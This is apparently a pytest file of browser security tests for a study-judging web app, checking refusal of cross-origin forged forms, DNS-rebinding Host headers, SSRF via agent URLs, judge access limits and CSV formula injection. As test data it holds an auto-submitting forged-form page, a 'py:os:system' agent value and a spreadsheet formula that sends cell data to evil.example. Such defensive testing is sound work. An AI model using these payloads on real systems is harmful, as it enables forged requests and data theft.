"""Interplay Studio left open for a real study (issue 34), in a real browser (Playwright on
Debian's Chromium) against the real server on loopback, with no part of the app mocked:

- a page on another loopback origin (another port) auto-submits forms to ``/talk`` and to a
  judge's route: refused, nothing started, nothing written;
- a request for ``Host: evil.example`` (a DNS-rebinding page) is 400 on every route;
- a judge's pages link nowhere but that judge's pairs, and the operator's pages, the results and
  another judge's link are 403 with the judge's cookies (200 for the operator);
- ``/talk`` with ``zero-shot:M@http://127.0.0.1:PORT/v1`` never reaches a listener on that port;
- a comment starting with ``=`` exports as text, not a formula; exports leave no folder behind.

Traversal sent as raw paths is in ``tests/test_studio_browser.py``
(``test_nothing_outside_the_served_folders_is_served``)."""

from __future__ import annotations

import csv
import io
import socket
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests
import test_studio_browser as shared
from test_studio_browser import (
    ADMIN,
    ADMIN_TOKEN,
    CHROMIUM_FLAGS,
    chromium_executable,
    log_in,
    new_page,
    raw_get,
)

from interplay.studio.app import create_app
from interplay.studio.live_server import LiveServer
from interplay.studio.sample_runs import play_local_run
from interplay.studio.study import CRITERIA, Study, create_study
from interplay.studio.study_stats import spreadsheet_safe

browser = shared.browser  # the module-scoped Chromium of the browser tests (skips, saying why, without it)


class Listener:
    """A TCP listener on a free loopback port that records every connection made to it (and
    answers 500), standing in for a model server a request might name."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(65536) or b"(connected)")
                    conn.sendall(b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self._stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


class OtherOrigin:
    """Pages served from another loopback origin (another port): ``/talk.html`` and
    ``/judge.html`` each auto-submit a form to the studio, as a page the operator or a judge
    happens to open could."""

    def __init__(self, studio_url: str, judge_path: str):
        fields = {"role": "recommender", "agent": "rule", "data": "demo", "max_turns": "4"}
        judged = {c.key: "left" for c in CRITERIA} | {"comment": "sent from another origin"}
        pages = {"/talk.html": self._form(studio_url + "/talk", fields),
                 "/judge.html": self._form(studio_url + judge_path, judged)}

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the http.server API
                body = pages.get(self.path, "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @staticmethod
    def _form(action: str, fields: dict[str, str]) -> str:
        inputs = "".join(f'<input type="hidden" name="{k}" value="{v}">' for k, v in fields.items())
        return (f'<!doctype html><form method="post" action="{action}">{inputs}</form>'
                "<script>document.forms[0].submit()</script>")

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def studio(tmp_path_factory):
    """Two small real runs, a study of them with judges ana and ben, the app serving them."""
    root = tmp_path_factory.mktemp("secure")
    play_local_run(root / "runs" / "rule", user="rule", recommender="rule", episodes=4, max_turns=10)
    play_local_run(root / "runs" / "yes-sayer", user="rule:0", recommender="rule", episodes=4, max_turns=10)
    study_path = root / "studies" / "rule-vs-yes.sqlite"
    study_path.parent.mkdir()
    create_study(study_path, root / "runs" / "rule", root / "runs" / "yes-sayer", judges=["ana", "ben"], seed=3,
                 title="Rule user vs yes-sayer")
    app = create_app([root / "runs"], [study_path], data=["demo"], talk_out=root / "talk", admin_token=ADMIN_TOKEN)
    study = Study.open(study_path)
    ana, ben = study.judges()
    with LiveServer(app) as server:
        yield {"url": server.url, "root": root, "study": study, "app": app, "ana": ana.token, "ben": ben.token}


def _talk_folder_empty(studio) -> bool:
    return not any(studio["root"].joinpath("talk").iterdir())


def test_a_page_on_another_loopback_origin_can_neither_start_a_talk_nor_judge(browser, studio):
    url, study, ana = studio["url"], studio["study"], studio["ana"]
    pair_id = study.pairs_for(ana)[0].pair_id
    other = OtherOrigin(url, f"/judge/{ana}/pair/{pair_id}")
    page = new_page(browser)
    try:
        # the worst case: this browser holds the operator's cookie and is ana's judging browser
        log_in(page, url)
        page.goto(f"{url}/judge/{ana}")
        assert other.url.split(":")[1] == url.split(":")[1] and other.url != url  # same host, another port
        with page.expect_response(lambda r: r.url == url + "/talk") as talk:
            page.goto(other.url + "/talk.html")
        assert talk.value.status == 403 and "another origin" in talk.value.text()
        assert len(studio["app"].state.studio.talks) == 0 and _talk_folder_empty(studio)  # nothing started
        with page.expect_response(lambda r: r.url == f"{url}/judge/{ana}/pair/{pair_id}") as judged:
            page.goto(other.url + "/judge.html")
        assert judged.value.status == 403
        assert study.judgements() == [] and study.progress()[0]["judged"] == 0  # nothing written
        # the same forms from the studio's own pages go through (the refusal is about the origin)
        page.goto(f"{url}/judge/{ana}/pair/{pair_id}")
        for c in CRITERIA:
            page.locator(f"#{c.key}-left").check()
        with page.expect_navigation():
            page.locator("#submit-judgement").click()
        assert len(study.judgements()) == len(CRITERIA)
    finally:
        page.context.close()
        other.close()
        with study._conn() as conn:  # leave the study unjudged for the other tests
            conn.execute("DELETE FROM judgements")


def test_a_request_for_another_host_is_400_on_every_route(browser, studio):
    url, ana = studio["url"], studio["ana"]
    pair_id = studio["study"].pairs_for(ana)[0].pair_id
    routes = ["/", f"/?token={ADMIN_TOKEN}", "/runs/runs/rule", "/runs/runs/rule/files/config.json",
              "/runs/runs/rule/item?title=Heat", "/studies/rule-vs-yes", "/studies/rule-vs-yes/export/results.csv",
              f"/judge/{ana}", f"/judge/{ana}/pair/{pair_id}", f"/judge/{ana}/results", "/talk", "/talk/x",
              "/talk/x/titles?q=heat", "/static/studio.js", "/static/studio.css", "/no-such-route"]
    port = url.rsplit(":", 1)[1]
    for host in ("evil.example", f"evil.example:{port}", "127.0.0.1.evil.example"):
        for path in routes:
            assert raw_get(url, path, {"Host": host, **ADMIN})[0] == 400, (host, path)
        for path in ("/talk", f"/judge/{ana}/pair/{pair_id}", "/studies/rule-vs-yes/close"):
            assert raw_get(url, path, {"Host": host, **ADMIN}, method="POST")[0] == 400, (host, path)
    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):  # the loopback names are answered
        assert raw_get(url, "/", {"Host": host, **ADMIN})[0] == 200
    # the DNS-rebinding shape in the browser: evil.example resolving to the studio's address
    executable = chromium_executable()
    rebinding = browser.browser_type.launch(executable_path=executable, headless=True,
                                            args=[*CHROMIUM_FLAGS, "--host-resolver-rules=MAP evil.example 127.0.0.1"])
    try:
        page = rebinding.new_page()
        for path in ("/", f"/?token={ADMIN_TOKEN}", f"/judge/{ana}", "/studies/rule-vs-yes"):
            response = page.goto(f"http://evil.example:{port}{path}")
            assert response.status == 400 and "Invalid host header" in page.content(), path
    finally:
        rebinding.close()


def test_a_judge_sees_only_their_own_pairs(browser, studio):
    url, ana, ben, study = studio["url"], studio["ana"], studio["ben"], studio["study"]
    judge = new_page(browser)
    operator = new_page(browser)
    try:
        log_in(operator, url)
        judge.goto(f"{url}/judge/{ana}")
        pages = [judge.content()]
        hrefs = judge.eval_on_selector_all("a[href]", "els => els.map(e => e.getAttribute('href'))")
        judge.locator("#next-pair").click()
        pages.append(judge.content())
        hrefs += judge.eval_on_selector_all("a[href]", "els => els.map(e => e.getAttribute('href'))")
        forms = judge.eval_on_selector_all("form", "els => els.map(e => e.getAttribute('action'))")
        assert hrefs and all(h.startswith(f"/judge/{ana}") for h in hrefs), hrefs
        assert forms and all(a.startswith(f"/judge/{ana}/pair/") for a in forms), forms
        for html in pages:  # no other judge's link, no system, no run, no study page
            for hidden in (ben, "rule:0", "yes-sayer", "runs/rule", "/studies", 'href="/"', "user_spec", "episode_id"):
                assert hidden not in html, hidden
        private = ["/", "/studies/rule-vs-yes", "/studies/rule-vs-yes/export/results.json",
                   "/studies/rule-vs-yes/export/judgements.csv", "/runs/runs/rule", "/runs/runs/rule/files/config.json",
                   "/talk", f"/judge/{ben}", f"/judge/{ana}/results"]
        for path in private:
            assert judge.context.request.get(url + path, max_redirects=0).status == 403, path  # the judge's cookies
            if path != f"/judge/{ben}":  # ben's link is ben's, in a browser not bound to another judge
                assert requests.get(url + path, timeout=30).status_code == 403, path  # no cookie at all
        for path in private[:-1]:
            assert operator.context.request.get(url + path, max_redirects=0).status == 200, path
        # the judge cannot close the study either; the operator can, and then the judge sees the results
        csrf = operator.context.request.get(f"{url}/studies/rule-vs-yes").text().split('name="csrf" value="')[1][:40]
        assert judge.context.request.post(f"{url}/studies/rule-vs-yes/close", form={"csrf": csrf},
                                          headers={"Origin": url}, max_redirects=0).status == 403
        assert study.closed() is None
        operator.goto(f"{url}/studies/rule-vs-yes")
        operator.locator("#close").click()
        assert "Closed" in operator.locator("#study-closed").inner_text() and study.closed() is not None
        judge.goto(f"{url}/judge/{ana}")
        judge.locator("#results-link").click()
        assert judge.locator("#results tbody tr").count() == len(CRITERIA)
        assert judge.context.request.get(url + "/studies/rule-vs-yes", max_redirects=0).status == 403
        assert judge.context.request.get(f"{url}/judge/{ben}/results", max_redirects=0).status == 403
        # a closed study takes no judgement
        pair_id = study.pairs_for(ana)[0].pair_id
        judge.goto(f"{url}/judge/{ana}/pair/{pair_id}")
        assert judge.locator("#judgement").count() == 0 and judge.locator("#study-closed").is_visible()
    finally:
        judge.context.close()
        operator.context.close()
        with study._conn() as conn:  # reopen for the other tests
            conn.execute("DELETE FROM meta WHERE key = 'closed'")


def test_talk_never_reaches_a_server_a_request_names(browser, studio, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-canary-must-not-leave")
    monkeypatch.setenv("INTERPLAY_HTTP_RETRIES", "0")
    monkeypatch.setenv("INTERPLAY_HTTP_TIMEOUT", "3")
    url, app = studio["url"], studio["app"]
    listener = Listener()
    page = new_page(browser)
    try:
        spec = f"zero-shot:M@http://127.0.0.1:{listener.port}/v1"
        log_in(page, url)
        page.goto(url + "/talk")
        offered = page.locator("#agent option").all_inner_texts()
        assert offered == ["rule", "llm", "zero-shot"]  # the project's own agents; no URL, no model id
        # the operator's own browser, with the form edited to name the listener: refused
        page.check("input[name=role][value=recommender]")  # the agent (the user) would speak first
        page.eval_on_selector("#agent", "(s, spec) => { s.add(new Option(spec, spec)); s.value = spec; }", spec)
        with page.expect_navigation():
            page.locator("#start").click()
        assert "is not offered here" in page.locator("#error-message").inner_text()
        # and with the operator's token over HTTP; and a hub model id, which would be loaded
        for agent in (spec, "llm:someone/some-model", "zero-shot:gpt-4o@http://127.0.0.1:1/v1", "py:os:system"):
            r = requests.post(url + "/talk", data={"role": "recommender", "agent": agent, "data": "demo"},
                              headers=ADMIN, allow_redirects=False, timeout=30)
            assert r.status_code == 400 and "is not offered here" in r.text, agent
        listener.thread.join(timeout=1)
        assert listener.received == []  # not a connection, let alone the key
        state = app.state.studio
        assert len(state.talks) == 0 and state.agents._backends == {} and _talk_folder_empty(studio)
    finally:
        page.context.close()
        listener.close()


def test_an_operator_allows_a_served_model_explicitly(tmp_path, monkeypatch):
    """What the operator names with --talk-agent is what the talk page offers; the listener then
    does get the request (the test above would notice a refusal that refused everything)."""
    monkeypatch.setenv("INTERPLAY_HTTP_RETRIES", "0")
    monkeypatch.setenv("INTERPLAY_HTTP_TIMEOUT", "3")
    listener = Listener()
    spec = f"zero-shot:M@http://127.0.0.1:{listener.port}/v1"
    app = create_app([], data=["demo"], talk_out=tmp_path / "talk", admin_token=ADMIN_TOKEN, talk_agents=["rule", spec])
    try:
        with LiveServer(app) as server:
            r = requests.post(server.url + "/talk", data={"role": "recommender", "agent": spec, "data": "demo",
                                                          "max_turns": "2"}, headers=ADMIN, allow_redirects=False,
                              timeout=60)
            assert r.status_code in (303, 400), r.text[:300]
        assert listener.received and listener.received[0].startswith(b"POST /v1/chat/completions")
    finally:
        listener.close()
    with pytest.raises(ValueError, match="unknown agent kind"):
        create_app([], talk_out=tmp_path / "talk", talk_agents=["nonsense:x"])


def test_a_formula_comment_exports_as_text_and_exports_leave_no_folder(browser, studio):
    url, ana, study = studio["url"], studio["ana"], studio["study"]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    judge, operator = new_page(browser), new_page(browser)
    before = set(Path(tempfile.gettempdir()).glob("interplay-study-*"))
    try:
        pair_id = study.pairs_for(ana)[0].pair_id
        judge.goto(f"{url}/judge/{ana}/pair/{pair_id}")
        for c in CRITERIA:
            judge.locator(f"#{c.key}-right").check()
        judge.fill("textarea[name=comment]", formula)
        with judge.expect_navigation():
            judge.locator("#submit-judgement").click()
        log_in(operator, url)
        operator.goto(f"{url}/studies/rule-vs-yes")
        with operator.expect_download() as download:
            operator.locator("#export-judgements-csv").click()
        rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
        assert len(rows) == len(CRITERIA) and {r["judge"] for r in rows} == {"ana"}
        assert {r["comment"] for r in rows} == {"'" + formula}  # text in a spreadsheet, never a formula
        assert study.judgements()[0]["comment"] == formula  # stored as written
        # viewing the results again writes nothing new, and no export folder stays behind
        exports = studio["app"].state.studio.exports
        writes = exports.writes
        for _ in range(3):
            operator.goto(f"{url}/studies/rule-vs-yes")
            assert operator.locator("img").evaluate("img => img.complete && img.naturalWidth > 0")
        assert exports.writes == writes
        assert set(Path(tempfile.gettempdir()).glob("interplay-study-*")) == before
    finally:
        judge.context.close()
        operator.context.close()
        with study._conn() as conn:
            conn.execute("DELETE FROM judgements")


def test_spreadsheet_safe_cells():
    assert [spreadsheet_safe(v) for v in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "fine", "a=b")] == [
        "'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "fine", "a=b"]
    assert spreadsheet_safe(-0.75) == -0.75 and spreadsheet_safe(None) is None  # numbers stay numbers
    assert spreadsheet_safe(["=x"]) == '["=x"]'
